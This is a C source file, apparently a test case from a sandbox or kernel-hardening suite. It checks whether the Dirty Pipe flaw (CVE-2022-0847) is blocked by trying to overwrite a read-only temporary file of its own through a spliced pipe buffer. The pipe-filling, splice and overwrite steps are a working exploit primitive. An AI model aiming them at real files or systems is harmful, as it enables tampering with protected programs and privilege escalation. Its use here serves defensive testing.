// name: dirty-pipe
// area: kernel
// about: Overwrites a read-only file through a spliced pipe buffer (CVE-2022-0847).
// expect: blocked

#include "attack.h"

// Tried on a file of its own: on a vulnerable kernel the same would change the host's
// programs, and doing that to prove it would be doing the damage.
ATTACK(dirty_pipe)
{
    char path[64], byte;
    snprintf(path, sizeof path, "/tmp/attack-pipe-%d", getpid());
    int file = open(path, O_CREAT | O_RDWR | O_EXCL | O_CLOEXEC, 0400);
    if (file < 0 || write(file, "original", 8) != 8)
        attack_give_up("%s: %s", path, strerror(errno));
    int read_only = open(path, O_RDONLY | O_CLOEXEC);
    unlink(path);
    int ends[2];
    if (read_only < 0 || pipe(ends))
        attack_give_up("pipe: %s", strerror(errno));
    // Fill and drain, so that every buffer of the pipe keeps its mergeable flag.
    int size = fcntl(ends[1], F_GETPIPE_SZ);
    for (int i = 0; i < size; i++)
        if (write(ends[1], "x", 1) != 1)
            attack_give_up("write: %s", strerror(errno));
    for (int i = 0; i < size; i++)
        if (read(ends[0], &byte, 1) != 1)
            attack_give_up("read: %s", strerror(errno));
    loff_t from = 0;
    if (splice(read_only, &from, ends[1], NULL, 1, 0) != 1)
        BLOCKED("splice: %s", strerror(errno));
    if (write(ends[1], "HOSTILE", 7) != 7)
        BLOCKED("write after splice: %s", strerror(errno));
    char now[9] = "";
    if (pread(read_only, now, 8, 0) != 8)
        attack_give_up("pread: %s", strerror(errno));
    if (strcmp(now, "original") != 0)
        ESCAPED("a file open for reading now holds '%s'", now);
    BLOCKED("the read-only file kept its content");
}
